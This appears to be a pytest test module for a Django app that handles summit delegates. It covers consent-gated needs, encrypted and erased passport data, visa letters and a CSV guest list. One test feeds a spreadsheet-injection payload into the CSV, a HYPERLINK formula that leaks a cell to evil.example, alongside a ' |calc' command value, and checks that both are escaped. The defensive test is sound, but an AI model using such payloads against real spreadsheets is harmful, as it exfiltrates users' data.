"""The summit: the event, delegates within their places and the deadline, sensitive needs only
with consent, visa letters for confirmed delegates, passport data encrypted and deleted."""

import csv
import io
import subprocess
from datetime import timedelta

import pytest
from django.core import mail
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from laurel.core import crypto
from laurel.core.models import AuditEntry
from laurel.laureates import services
from laurel.laureates.models import Delegate, VisaRequest
from laurel.laureates.services.summit import erase_passport_data
from tests.conftest import sign_in
from tests.laureates import summit_helpers
from tests.laureates.summit_helpers import give
from tests.scenarios import START, delegate_values, summit_values

# Fixtures these tests share with other modules.
laureate = summit_helpers.laureate
visa_delegate = summit_helpers.visa_delegate


def test_a_summit_that_ends_before_it_starts_is_refused(child10, staff_user):
    with pytest.raises(services.SummitError, match="cannot come before") as refused:
        services.define_summit(
            child10, values=summit_values(ends_on=START - timedelta(days=1)), actor=staff_user
        )
    assert refused.value.field == "ends_on"


def test_a_laureate_registers_within_its_places(laureate):
    services.register_delegate(laureate, values=delegate_values(), actor=None)
    services.register_delegate(
        laureate, values=delegate_values(full_name="Piotr Nowak"), actor=None
    )

    with pytest.raises(services.SummitError, match="2 places at the summit"):
        services.register_delegate(laureate, values=delegate_values(full_name="Third"), actor=None)
    assert Delegate.objects.count() == 2


def test_registration_after_the_deadline_is_refused(laureate, child10):
    summit = child10.summit
    summit.registration_closes_at = timezone.now() - timedelta(minutes=1)
    summit.save(update_fields=["registration_closes_at"])

    with pytest.raises(services.SummitError, match="Registration closed"):
        services.register_delegate(laureate, values=delegate_values(), actor=None)
    assert Delegate.objects.count() == 0


@pytest.mark.parametrize(
    ("changes", "field"),
    [
        ({"dietary": "Vegetarian"}, "dietary_consent"),
        ({"accessibility": "Wheelchair"}, "accessibility_consent"),
        ({"arrive_on": START + timedelta(days=1)}, "arrive_on"),
        ({"leave_on": START - timedelta(days=3)}, "leave_on"),
    ],
)
def test_needs_without_consent_and_dates_off_the_summit_are_refused(laureate, changes, field):
    with pytest.raises(services.SummitError) as refused:
        services.register_delegate(laureate, values=delegate_values(**changes), actor=None)

    assert refused.value.field == field
    assert Delegate.objects.count() == 0


def test_passport_data_is_encrypted_masked_and_checked(visa_delegate):
    with pytest.raises(services.SummitError, match="valid three months"):
        give(visa_delegate, passport_expires_on=START + timedelta(days=30))

    visa = give(visa_delegate)

    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT passport_number, nationality, date_of_birth FROM laureates_visarequest"
        )
        stored = cursor.fetchone()
    # Each column holds a Fernet token (which a two-letter country code could appear in by
    # chance, so the token's form is checked, not the absence of "UA"), and it opens to the value.
    assert all(value.startswith("gAAAAA") for value in stored)
    assert "FT123456" not in " ".join(stored)
    assert [crypto.decrypt(value) for value in stored][:2] == ["FT123456", "UA"]
    assert visa.masked == "•••• 456"
    assert VisaRequest.objects.get().passport_number == "FT123456"


def test_a_letter_only_for_a_confirmed_delegate_and_its_text(visa_delegate, staff_user, tmp_path):
    visa = give(visa_delegate)
    with pytest.raises(services.SummitError, match="only for confirmed delegates"):
        services.approve_visa_letter(visa, actor=staff_user)
    services.confirm_delegate(visa_delegate, actor=staff_user)
    services.approve_visa_letter(visa, actor=staff_user)

    from laurel.laureates import documents

    pdf = documents.visa_letter(
        services.letter_data(VisaRequest.objects.get(), actor=staff_user),
        visa_delegate.laureate.cycle.summit,
    )
    path = tmp_path / "letter.pdf"
    path.write_bytes(pdf)
    text = " ".join(
        subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True).stdout.split()
    )

    assert "Letter of invitation" in text
    assert "Olena Shevchenko" in text and "FT123456" in text and "a national of Ukraine" in text
    assert "from 16 October 2030 to 18 October 2030" in text
    assert "Hotel Nordic, Vasaplan 4, Stockholm" in text
    assert "Child10 pays travel, accommodation and meals." in text
    assert "Signature ____" in text and "Anna Svensson Director Child10" in text
    assert AuditEntry.objects.filter(key="visa.letter_made").count() == 1


def test_passport_data_is_erased_after_its_date_and_not_taken_again(visa_delegate, staff_user):
    from django_tasks_db.models import DBTaskResult

    give(visa_delegate)
    after = START + timedelta(days=2 + 30)
    scheduled = DBTaskResult.objects.get(task_path__endswith="erase_expired_passport_data")
    assert (
        timezone.localtime(scheduled.run_after, visa_delegate.laureate.cycle.zone).date() == after
    )

    assert erase_passport_data(today=after - timedelta(days=1)) == 0
    assert erase_passport_data(today=after) == 1

    visa = VisaRequest.objects.get()
    assert (visa.state, visa.passport_number, visa.masked) == ("erased", "", "")
    assert AuditEntry.objects.get(key="visa.passport_data_erased").data == {"count": 1}
    services.confirm_delegate(visa_delegate, actor=staff_user)
    with pytest.raises(services.SummitError, match="deleted"):
        services.approve_visa_letter(visa, actor=staff_user)


def test_the_staff_page_summarises_needs_only_with_consent(laureate, staff_client, child10):
    services.register_delegate(
        laureate, values=delegate_values(dietary="Halal", dietary_consent=True), actor=None
    )
    Delegate.objects.create(
        laureate=laureate, **delegate_values(full_name="No Consent", dietary="Vegan")
    )

    page = staff_client.get(reverse("laureates:staff_summit")).content.decode()
    guests = staff_client.get(reverse("laureates:guests_csv")).content.decode("utf-8-sig")

    assert "Maria Kowalska: Halal" in page
    assert "Vegan" not in page
    assert "Maria Kowalska: 4 nights" in page
    assert guests.splitlines()[1].startswith("Fundacja Dzieci,Maria Kowalska,Director,")
    # The needs a delegate agreed to share are for the organisers; without consent, nothing.
    assert ",Halal," in guests.splitlines()[1]
    assert "Vegan" not in guests


def test_what_a_delegate_typed_reaches_the_guest_list_as_text(laureate, staff_client):
    formula = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    services.register_delegate(
        laureate,
        values=delegate_values(full_name=formula, role=" |calc", phone="+48 600 000 000"),
        actor=None,
    )

    response = staff_client.get(reverse("laureates:guests_csv"))

    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
    assert row[1:5] == ["'" + formula, "' |calc", "maria@fundacja.pl", "'+48 600 000 000"]
    assert response["Cache-Control"] == "no-store, private"


def test_practical_information_reaches_confirmed_delegates_and_contacts(
    laureate, staff_client, staff_user, run_tasks
):
    confirmed = services.register_delegate(laureate, values=delegate_values(), actor=None)
    services.register_delegate(
        laureate, values=delegate_values(full_name="Not Yet", email="notyet@dzieci.pl"), actor=None
    )
    services.confirm_delegate(confirmed, actor=staff_user)
    run_tasks()
    mail.outbox.clear()

    form = {
        "subject_en": "Your trip to Stockholm", "text_en": "Meet at the hotel at 9.",
        "subject_sv": "Din resa till Stockholm", "text_sv": "Vi ses på hotellet klockan 9.",
    }  # fmt: skip
    asked = staff_client.post(reverse("laureates:information"), form).content.decode()
    run_tasks()
    nothing_yet = list(mail.outbox)
    staff_client.post(reverse("laureates:information"), form | {"confirmed": "yes"})
    run_tasks()

    assert "goes to 2 people: the confirmed delegates" in asked
    assert "2 emails will be sent to people outside the secretariat." in asked
    assert nothing_yet == []
    assert sorted(m.to[0] for m in mail.outbox) == ["maria@fundacja.pl", "office@dzieci.pl"]
    assert all(m.subject == "Your trip to Stockholm" for m in mail.outbox)


def test_the_contact_registers_a_delegate_and_keeps_what_was_typed(laureate, client):
    from tests.factories import laureate_contact

    contact = laureate_contact(laureate.cycle, "office@dzieci.pl")
    sign_in(client, contact)
    form = {
        k: ("on" if v is True else "" if v is False else str(v))
        for k, v in delegate_values(dietary="Vegetarian").items()
    } | {"code_of_conduct": "on"}

    refused = client.post(reverse("laureates:summit"), form)
    accepted = client.post(reverse("laureates:summit"), form | {"dietary_consent": "on"})

    assert refused.status_code == 400
    assert "Tick the box to let us keep this" in refused.content.decode()
    assert 'value="Maria Kowalska"' in refused.content.decode()
    assert accepted.status_code == 302
    assert Delegate.objects.get().dietary == "Vegetarian"


def test_the_visa_letter_is_never_stored_by_a_browser_or_proxy(
    visa_delegate, staff_user, staff_client
):
    visa = give(visa_delegate)
    services.confirm_delegate(visa_delegate, actor=staff_user)
    services.approve_visa_letter(visa, actor=staff_user)

    response = staff_client.get(reverse("laureates:visa_letter", args=[visa.pk]))

    assert response["Content-Type"] == "application/pdf"
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]


def test_passport_numbers_appear_only_in_the_letter(visa_delegate, staff_user, client):
    from laurel.accounts.models import RoleGrant
    from tests.factories import UserFactory, tie_contacts

    give(visa_delegate)
    contact = UserFactory(email="office@dzieci.pl")
    RoleGrant.objects.create(
        user=contact, role="laureate_contact", cycle=visa_delegate.laureate.cycle
    )
    tie_contacts(contact)
    sign_in(client, contact)

    pages = [client.get(reverse("laureates:summit")).content.decode()]
    sign_in(client, staff_user)
    pages += [
        client.get(reverse("laureates:staff_summit")).content.decode(),
        client.get(reverse("laureates:guests_csv")).content.decode(),
    ]

    assert all("FT123456" not in page for page in pages)
    assert "•••• 456" in pages[0] and "•••• 456" in pages[1]
    assert AuditEntry.objects.filter(key="visa.letter_made").count() == 0


def test_passport_data_given_again_waits_for_approval_again_through_the_visa_map(
    visa_delegate, staff_user
):
    """Approved, then given again: the letter waits for staff once more (and the approval is
    forgotten); erased, then given again, the same row takes the new data."""
    visa = give(visa_delegate)
    services.confirm_delegate(visa_delegate, actor=staff_user)
    services.approve_visa_letter(visa, actor=staff_user)

    again = give(visa_delegate, passport_number="FT999999")
    after_approval = (again.pk, again.state, again.approved_by_id, again.masked)
    erased = erase_passport_data(today=START + timedelta(days=2 + 30))  # its date, ahead of now
    given_after_erasure = give(visa_delegate, passport_number="FT777777")

    assert after_approval == (visa.pk, "requested", None, "•••• 999")
    assert erased == 1
    assert (given_after_erasure.pk, given_after_erasure.state) == (visa.pk, "requested")
    assert VisaRequest.objects.get().passport_number == "FT777777"
    assert AuditEntry.objects.filter(key="visa.requested").count() == 3
